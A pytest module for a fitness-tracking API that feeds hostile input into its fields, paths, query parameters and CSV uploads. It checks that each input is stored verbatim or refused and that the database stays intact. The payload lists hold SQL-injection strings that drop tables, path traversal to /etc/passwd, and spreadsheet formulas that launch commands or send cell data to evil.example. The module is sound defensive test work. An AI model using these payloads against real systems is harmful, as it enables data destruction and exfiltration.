"""Hostile input: injection strings, odd Unicode and absurd sizes are data or a 4xx, never more.

SQL-injection and format-string attempts go into every string field, path segment and
query parameter of the API: each is stored and read back exactly, or refused with a 4xx,
and every table is still there, unchanged but for what was asked. MapMyFitness uploads
are fuzzed with random bytes, wrong encodings, truncated quotes, a 5 MB cell, a million
columns and spreadsheet formulas: never a 5xx, strict mode never writes part of a file,
and the memory an upload takes stays bounded.
"""

from __future__ import annotations

import base64
import codecs
import itertools
import json
import tracemalloc
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import TypeVar
from urllib.parse import quote

import psycopg
import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from starlette.testclient import TestClient

from fitness.db.integrity import find_problems
from fitness.db.runs import import_runs
from fitness.errors import InvalidImport
from fitness.ids import shoe_id_from_name
from fitness.models import Run
from fitness.rules import MAX_CHANGED_BY_CHARS
from fitness.services.mmf_import import MMFImportResult, import_mmf_csv
from tests.factories import RunFactory
from tests.guarantees.conftest import row_counts
from tests.importers.mmf_csv import HEADER, SAMPLE_EXPORT, mmf_csv, mmf_row

T = TypeVar("T")

HOSTILE = {
    "quote-drop-table": "'; DROP TABLE runs; --",
    "double-quote-tautology": '" OR 1=1 --',
    "quote-tautology": "' OR '1'='1",
    "bobby-tables": "Robert'); DROP TABLE shoes;--",
    "stacked-sleep": "1; SELECT pg_sleep(10); --",
    "percent-s": "%s",
    "percent-named": "%(x)s",
    "braces": "{}",
    "format-attribute": "{0.__class__.__mro__}",
    "dollar-parameter": "$1",
    "dollar-quote": "$$; DROP TABLE runs; $$",
    "backslash": "\\",
    "backslash-quote": "\\'; DELETE FROM runs; --",
    "unicode": "Łódź ☃ 😀 中文 \u202eevil\u2028 ﬁ",
    "control-characters": "line\nbreak\ttab\rreturn\x1b[31m",
    "markup": "<script>alert(1)</script>",
    "path-traversal": "../../etc/passwd",
    # As long as a URL can be (httpx refuses more than 64 KiB once percent-encoded).
    "very-long": "x' OR 1=1 -- " * 2_000,
}
HOSTILE_IDS = list(HOSTILE)
HOSTILE_TEXTS = list(HOSTILE.values())

RUN_ID = "strava_1001"
# Every edit sets a distance the run has not had, so that each one is a new version.
DISTANCES = itertools.count(1)
SHOE_ID = "brooks_ghost_15"


@pytest.fixture
def seeded(client: TestClient, raw_conn: psycopg.Connection) -> Run:
    """A shoe and a run in it (RUN_ID, SHOE_ID), so that injected paths have data to miss."""
    assert client.post("/shoes", json={"name": "Brooks Ghost 15"}).status_code == 201
    run = RunFactory().make(id=RUN_ID, shoe_id=SHOE_ID)
    import_runs([run])
    return run


def assert_intact(conn: psycopg.Connection, counts: dict[str, int]) -> None:
    """Every table is there with the rows expected, and the history is consistent."""
    assert row_counts(conn) == counts
    assert find_problems() == []


# --- string fields ------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE_TEXTS, ids=HOSTILE_IDS)
def test_hostile_change_notes_are_stored_and_read_back_exactly(
    client: TestClient, seeded: Run, raw_conn: psycopg.Connection, text: str
) -> None:
    before = row_counts(raw_conn)
    text = text[:MAX_CHANGED_BY_CHARS]
    note = {"changed_by": text, "change_reason": text}

    edited = client.patch(f"/runs/{RUN_ID}", json={"distance": 9.5, **note})
    deleted = client.request("DELETE", f"/runs/{RUN_ID}", json=note)
    restored = client.post(f"/runs/{RUN_ID}/restore/2", json=note)

    assert [edited.status_code, deleted.status_code, restored.status_code] == [200, 200, 200]
    assert edited.json()["last_edited_by"] == text
    history = client.get(f"/runs/{RUN_ID}/history").json()["versions"]
    assert [(v["change_type"], v["changed_by"], v["change_reason"]) for v in history] == [
        ("restore", text, text),
        ("deletion", text, text),
        ("edit", text, text),
        ("original", "import", None),
    ]
    assert client.get(f"/runs/{RUN_ID}").json()["distance"] == 9.5
    assert_intact(raw_conn, before | {"runs_history": before["runs_history"] + 3})


@pytest.mark.parametrize("text", HOSTILE_TEXTS, ids=HOSTILE_IDS)
def test_hostile_shoe_names_and_notes_are_stored_exactly_or_refused(
    client: TestClient, seeded: Run, raw_conn: psycopg.Connection, text: str
) -> None:
    before = row_counts(raw_conn)
    try:
        shoe_id: str | None = shoe_id_from_name(text.strip())
    except ValueError:
        shoe_id = None  # no letters or digits, or too long to be a name

    created = client.post("/shoes", json={"name": text, "notes": text})

    if shoe_id is None:
        assert created.status_code == 422, created.text
        assert_intact(raw_conn, before)
        return
    assert created.status_code == 201, created.text
    assert (created.json()["id"], created.json()["name"]) == (shoe_id, text.strip())
    assert created.json()["notes"] == text
    path = f"/shoes/{quote(shoe_id, safe='')}"
    retired = client.patch(
        path, json={"retired_at": "2025-01-31", "retirement_notes": text, "notes": text}
    )
    assert retired.status_code == 200, retired.text
    assert (retired.json()["retirement_notes"], retired.json()["notes"]) == (text, text)
    assert client.get(path).json()["name"] == text.strip()
    listed = client.get("/shoes", params={"retired": "true"}).json()["shoes"]
    assert [shoe["name"] for shoe in listed] == [text.strip()]
    assert_intact(raw_conn, before | {"shoes": before["shoes"] + 1})


def test_hostile_values_in_fields_that_take_no_free_text_are_a_422(
    client: TestClient, seeded: Run, raw_conn: psycopg.Connection
) -> None:
    before = row_counts(raw_conn)
    for text in HOSTILE_TEXTS:
        for field in ("type", "shoe_id", "datetime_utc", "distance", "duration"):
            response = client.patch(f"/runs/{RUN_ID}", json={field: text})
            assert response.status_code == 422, (field, text[:40], response.text)
        response = client.patch(f"/shoes/{SHOE_ID}", json={"retired_at": text})
        assert response.status_code == 422, (text[:40], response.text)
    assert_intact(raw_conn, before)


@given(text=st.text(max_size=300))
@hypothesis_settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
def test_any_text_as_a_change_note_round_trips_or_is_a_422(
    client: TestClient, seeded: Run, text: str
) -> None:
    # Sent as escaped JSON, so lone surrogates and NULs reach the server as they are.
    distance = 10 + next(DISTANCES) / 8
    body = json.dumps({"distance": distance, "changed_by": text, "change_reason": text})
    response = client.patch(
        f"/runs/{RUN_ID}", content=body, headers={"Content-Type": "application/json"}
    )

    if not _storable(text) or not text.strip() or len(text) > MAX_CHANGED_BY_CHARS:
        assert response.status_code == 422, response.text
        return
    assert response.status_code == 200, response.text
    newest = client.get(f"/runs/{RUN_ID}/history").json()["versions"][0]
    assert (newest["changed_by"], newest["change_reason"]) == (text, text)


def _storable(text: str) -> bool:
    """PostgreSQL text holds it: no NUL, no lone surrogate."""
    return "\x00" not in text and not any("\ud800" <= char <= "\udfff" for char in text)


def test_a_change_note_over_its_bound_is_a_422_and_writes_nothing(
    client: TestClient, seeded: Run, raw_conn: psycopg.Connection
) -> None:
    before = row_counts(raw_conn)
    note = {"changed_by": HOSTILE["very-long"], "change_reason": HOSTILE["very-long"]}

    edited = client.patch(f"/runs/{RUN_ID}", json={"distance": 9.5, **note})
    deleted = client.request("DELETE", f"/runs/{RUN_ID}", json=note)
    restored = client.post(f"/runs/{RUN_ID}/restore/1", json=note)

    assert [edited.status_code, deleted.status_code, restored.status_code] == [422, 422, 422]
    assert [error["field"] for error in edited.json()["errors"]] == [
        "change_reason",
        "changed_by",
    ]
    assert_intact(raw_conn, before)


# --- path segments and query parameters ---------------------------------------------------

PATH_TEMPLATES = [
    ("GET", "/runs/{}"),
    ("PATCH", "/runs/{}"),
    ("DELETE", "/runs/{}"),
    ("GET", "/runs/{}/history"),
    ("GET", "/runs/{}/history/1"),
    ("POST", "/runs/{}/restore/1"),
    ("GET", f"/runs/{RUN_ID}/history/{{}}"),
    ("POST", f"/runs/{RUN_ID}/restore/{{}}"),
    ("GET", "/shoes/{}"),
    ("PATCH", "/shoes/{}"),
    ("DELETE", "/shoes/{}"),
    ("POST", "/sync/runs/{}"),
    ("DELETE", "/sync/runs/{}"),
    ("GET", "/oauth/{}/authorize"),
]
BODIES = {("PATCH", "/runs/{}"): {"distance": 1.0}, ("PATCH", "/shoes/{}"): {"notes": "x"}}


@pytest.mark.parametrize("text", HOSTILE_TEXTS, ids=HOSTILE_IDS)
def test_hostile_path_segments_match_nothing_and_change_nothing(
    client: TestClient, seeded: Run, raw_conn: psycopg.Connection, text: str
) -> None:
    before = row_counts(raw_conn)
    for method, template in PATH_TEMPLATES:
        path = template.format(quote(text, safe=""))
        response = client.request(method, path, json=BODIES.get((method, template)))
        assert 400 <= response.status_code < 500, (method, template, response.text)
        assert response.headers["content-type"] == "application/problem+json"
    assert_intact(raw_conn, before)
    assert client.get(f"/runs/{RUN_ID}").json()["version"] == 1


QUERY_PARAMETERS = [
    ("/runs", "start"),
    ("/runs", "end"),
    ("/runs", "include_deleted"),
    ("/runs", "limit"),
    ("/runs", "cursor"),
    (f"/runs/{RUN_ID}", "include_deleted"),
    ("/shoes", "retired"),
]


@pytest.mark.parametrize("text", HOSTILE_TEXTS, ids=HOSTILE_IDS)
def test_hostile_query_parameters_are_refused_with_a_4xx(
    client: TestClient, seeded: Run, raw_conn: psycopg.Connection, text: str
) -> None:
    before = row_counts(raw_conn)
    for path, name in QUERY_PARAMETERS:
        response = client.get(path, params={name: text})
        assert response.status_code in (400, 422), (path, name, response.text)
    # If-Match is read as a version number, so it cannot be anything else either.
    if text.isprintable():
        response = client.patch(
            f"/runs/{RUN_ID}", json={"distance": 2.0}, headers={"If-Match": text.encode()}
        )
        assert response.status_code == 400, response.text
    assert_intact(raw_conn, before)


@pytest.mark.parametrize("text", HOSTILE_TEXTS, ids=HOSTILE_IDS)
def test_hostile_values_at_the_other_entry_points_are_refused_with_a_4xx(
    client: TestClient, seeded: Run, raw_conn: psycopg.Connection, text: str
) -> None:
    before = row_counts(raw_conn)
    export = mmf_csv([mmf_row()]).encode()
    for field in ("timezone", "dry_run", "strict"):
        response = upload(client, export, **{field: text})
        assert response.status_code == 422, (field, response.text)  # type: ignore[attr-defined]
    response = client.post("/strava/sync", params={"full_sync": text})
    assert response.status_code == 422, response.text
    for params in ({"state": text, "code": "c"}, {"state": "s", "code": text}, {"error": text}):
        response = client.get("/oauth/strava/callback", params=params)
        assert response.status_code == 400, response.text
    assert_intact(raw_conn, before)


@pytest.mark.parametrize("text", HOSTILE_TEXTS, ids=HOSTILE_IDS)
def test_a_well_formed_cursor_carrying_hostile_text_is_only_a_position(
    client: TestClient, seeded: Run, text: str
) -> None:
    # The cursor's key is compared as a value: an id that sorts after every real one.
    key = json.dumps([datetime(2100, 1, 1, tzinfo=UTC).isoformat(), text])
    cursor = base64.urlsafe_b64encode(key.encode()).rstrip(b"=").decode()

    response = client.get("/runs", params={"cursor": cursor})

    if len(cursor) > 2000:
        assert response.status_code == 400
        return
    assert response.status_code == 200, response.text
    assert [run["id"] for run in response.json()["runs"]] == [RUN_ID]


# --- MapMyFitness uploads -----------------------------------------------------------------


def upload(client: TestClient, content: bytes, **fields: str) -> object:
    return client.post(
        "/mmf/upload-csv", files={"file": ("workouts.csv", content, "text/csv")}, data=fields
    )


def sample() -> bytes:
    return Path(SAMPLE_EXPORT).read_bytes()


def stored_runs(conn: psycopg.Connection) -> int:
    row = conn.execute("SELECT count(*) FROM runs").fetchone()
    assert row is not None
    return row[0]


def check_upload(
    client: TestClient, conn: psycopg.Connection, content: bytes, *, strict: bool
) -> object:
    """Upload `content`; assert no 5xx and that exactly what the answer reports was written."""
    before = stored_runs(conn)
    response = upload(client, content, strict=str(strict).lower())
    assert response.status_code < 500, response.text
    assert response.status_code in (200, 422), response.text
    body = response.json()
    written = stored_runs(conn) - before
    if response.status_code == 200:
        assert written == body["inserted"]
        assert not (strict and body["error_count"]), body
    else:
        assert written == 0, body
    return response


@given(content=st.binary(max_size=2_048))
@hypothesis_settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
def test_random_bytes_are_never_a_server_error(
    client: TestClient, raw_conn: psycopg.Connection, content: bytes
) -> None:
    check_upload(client, raw_conn, content, strict=False)


GARBAGE_CELLS = st.one_of(
    st.text(max_size=30),
    st.sampled_from(
        [
            "Run",
            "Indoor Run / Jog",
            "Walk",
            "May 6, 2025",
            "2025-13-45",
            "3.1",
            "-1",
            "nan",
            "1e400",
            "0",
            "Shoes: Brooks Ghost 15",
            "Shoes: ",
            "Shoes: Nike\x00Pegasus",
            '"',
            "https://www.mapmyfitness.com/workout/8622076198",
            "https://www.mapmyfitness.com/workout/" + "9" * 40,
        ]
    ),
)


@given(
    broken_fields=st.lists(
        st.dictionaries(st.sampled_from(HEADER), GARBAGE_CELLS, max_size=4), max_size=8
    ),
    junk_lines=st.lists(st.text(max_size=80), max_size=3),
    strict=st.booleans(),
)
@hypothesis_settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
def test_exports_with_broken_rows_write_exactly_what_they_report(
    client: TestClient,
    raw_conn: psycopg.Connection,
    broken_fields: list[dict[str, str]],
    junk_lines: list[str],
    strict: bool,
) -> None:
    # Real rows with a few cells replaced by garbage, then lines of anything at all.
    export = mmf_csv([mmf_row(**fields) for fields in broken_fields])
    content = (export + "\r\n".join(junk_lines)).encode("utf-8", "surrogatepass")
    check_upload(client, raw_conn, content, strict=strict)


def test_a_nul_in_a_shoe_name_is_removed_and_the_run_kept(
    client: TestClient, raw_conn: psycopg.Connection
) -> None:
    content = mmf_csv([mmf_row(Notes="Shoes: Nike\x00Pegasus"), mmf_row()]).encode()

    response = check_upload(client, raw_conn, content, strict=False)

    assert response.status_code == 200  # type: ignore[attr-defined]
    result = response.json()  # type: ignore[attr-defined]
    assert (result["inserted"], result["error_count"]) == (2, 0)
    assert result["shoes_created"] == ["NikePegasus"]


def latin1_export() -> bytes:
    rows = [mmf_row(), mmf_row(Notes="Café run\nShoes: Asics Gel-Nimbus Señor")]
    return mmf_csv(rows, bom=False).encode("latin-1")


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(
            codecs.BOM_UTF16_LE + sample().decode("utf-8-sig").encode("utf-16-le"), id="utf-16"
        ),
        pytest.param(latin1_export(), id="latin-1"),
        pytest.param(sample().decode("utf-8-sig").encode("utf-32"), id="utf-32"),
    ],
)
@pytest.mark.parametrize("strict", [False, True], ids=["lenient", "strict"])
def test_a_file_in_another_encoding_is_a_422_that_writes_nothing(
    client: TestClient, raw_conn: psycopg.Connection, content: bytes, strict: bool
) -> None:
    response = check_upload(client, raw_conn, content, strict=strict)
    assert response.status_code == 422  # type: ignore[attr-defined]
    assert "UTF-8" in response.json()["detail"]  # type: ignore[attr-defined]
    assert stored_runs(raw_conn) == 0


def test_a_truncated_quote_is_a_row_error_and_strict_mode_writes_nothing(
    client: TestClient, raw_conn: psycopg.Connection
) -> None:
    content = mmf_csv([mmf_row(), mmf_row()]).encode() + b'"May 7, 2025","May 6, 2025",Run,"3'

    strict = check_upload(client, raw_conn, content, strict=True)
    lenient = check_upload(client, raw_conn, content, strict=False)

    assert strict.status_code == 422  # type: ignore[attr-defined]
    assert strict.json()["type"] == "/problems/import-rejected"  # type: ignore[attr-defined]
    assert lenient.json()["inserted"] == 2  # type: ignore[attr-defined]
    assert lenient.json()["error_count"] == 1  # type: ignore[attr-defined]


def peak_memory_of(work: Callable[[], T]) -> tuple[T, int]:
    """`work()`'s result and the most memory Python held while it ran, in bytes."""
    tracemalloc.start()
    try:
        tracemalloc.reset_peak()
        result = work()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return result, peak


def dry_run_import(content: bytes, directory: Path, *, strict: bool = False) -> MMFImportResult:
    """A dry-run import of `content` streamed from a file, as the upload endpoint streams
    the upload it spooled to disk."""
    path = directory / "export.csv"
    path.write_bytes(content)
    with path.open("rb") as source:
        return import_mmf_csv(source, strict=strict, dry_run=True)


MIB = 1024 * 1024
# What an import may hold at once whatever the file: one line of at most a million
# characters (up to 4 MiB of text), one row's cells, one batch of runs.
MEMORY_BOUND = 16 * MIB


def data_line(row: dict[str, str]) -> str:
    """One row of an export as its CSV line, quoted as MapMyFitness quotes it."""
    return mmf_csv([row], bom=False).split("\r\n")[1]


def huge_cell_exports() -> Iterator[tuple[str, bytes]]:
    five_mb = "Shoes: " + "=A1+" * (5 * MIB // 4)
    yield "one-line", mmf_csv([mmf_row(), mmf_row(Notes=five_mb), mmf_row()]).encode()
    multiline = "\n".join(five_mb[i : i + 1000] for i in range(0, len(five_mb), 1000))
    yield "many-lines", mmf_csv([mmf_row(), mmf_row(Notes=multiline), mmf_row()]).encode()


@pytest.mark.parametrize(
    ("kind", "content"), list(huge_cell_exports()), ids=["one-line", "many-lines"]
)
def test_a_five_megabyte_cell_is_a_row_error_in_bounded_memory(
    client: TestClient, raw_conn: psycopg.Connection, tmp_path: Path, kind: str, content: bytes
) -> None:
    strict = check_upload(client, raw_conn, content, strict=True)
    lenient = check_upload(client, raw_conn, content, strict=False)
    dry_run, peak = peak_memory_of(lambda: dry_run_import(content, tmp_path))

    print(f"\n5 MB cell ({kind}): {len(content) / MIB:.1f} MiB file, peak {peak / MIB:.1f} MiB")
    assert strict.status_code == 422  # type: ignore[attr-defined]
    assert lenient.status_code == 200  # type: ignore[attr-defined]
    assert lenient.json()["error_count"] >= 1  # type: ignore[attr-defined]
    assert lenient.json()["inserted"] == 2  # type: ignore[attr-defined]
    assert dry_run.skipped_existing == lenient.json()["inserted"]  # type: ignore[attr-defined]
    assert peak < MEMORY_BOUND


def test_a_header_of_a_million_columns_is_refused_in_bounded_memory(
    client: TestClient, raw_conn: psycopg.Connection, tmp_path: Path
) -> None:
    header = ",".join([*HEADER, *(f"c{n}" for n in range(1_000_000 - len(HEADER)))])
    content = (header + "\r\n" + data_line(mmf_row()) + "\r\n").encode()

    response = check_upload(client, raw_conn, content, strict=False)

    def refused() -> str:
        with pytest.raises(InvalidImport) as refusal:
            dry_run_import(content, tmp_path)
        return str(refusal.value)

    message, peak = peak_memory_of(refused)

    print(f"\n1M columns header: {len(content) / MIB:.1f} MiB file, peak {peak / MIB:.1f} MiB")
    assert response.status_code == 422  # type: ignore[attr-defined]
    assert "column" in message
    assert peak < MEMORY_BOUND


def test_a_row_of_half_a_million_columns_is_read_in_bounded_memory(
    client: TestClient, raw_conn: psycopg.Connection, tmp_path: Path
) -> None:
    wide = data_line(mmf_row()) + "," * 480_000
    content = (mmf_csv([mmf_row()]) + wide + "\r\n").encode()

    response = check_upload(client, raw_conn, content, strict=False)
    dry_run, peak = peak_memory_of(lambda: dry_run_import(content, tmp_path, strict=False))

    print(f"\n480k columns row: {len(content) / MIB:.1f} MiB file, peak {peak / MIB:.1f} MiB")
    assert response.status_code == 200, response.text  # type: ignore[attr-defined]
    body = response.json()  # type: ignore[attr-defined]
    # More fields than the header: a row error with its line, never a run or a skip.
    assert (body["inserted"], body["error_count"]) == (1, 1)
    assert (
        body["errors"][0]["line"] == 3
        and "fields where the header has" in (body["errors"][0]["message"])
    )
    assert (dry_run.skipped_existing, dry_run.error_count) == (1, 1)
    assert peak < MEMORY_BOUND


FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1)",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
]


def test_formula_injection_in_an_export_is_stored_verbatim_as_data(
    client: TestClient, raw_conn: psycopg.Connection
) -> None:
    rows = [mmf_row(Notes=f"Shoes: {formula}") for formula in FORMULAS]
    rows.append(mmf_row(Activity_Type="=1+1"))
    rows.append(mmf_row(Link='=HYPERLINK("https://www.mapmyfitness.com/workout/1")'))

    response = check_upload(client, raw_conn, mmf_csv(rows).encode(), strict=False)

    result = response.json()  # type: ignore[attr-defined]
    assert (result["inserted"], result["skipped_other_activities"]) == (len(FORMULAS), 1)
    assert [error["line"] for error in result["errors"]] == [len(FORMULAS) + 3]
    names = {shoe["name"] for shoe in client.get("/shoes").json()["shoes"]}
    assert names == set(FORMULAS)
    runs = client.get("/runs").json()["runs"]
    assert {run["shoe_name"] for run in runs} == set(FORMULAS)
    assert find_problems() == []
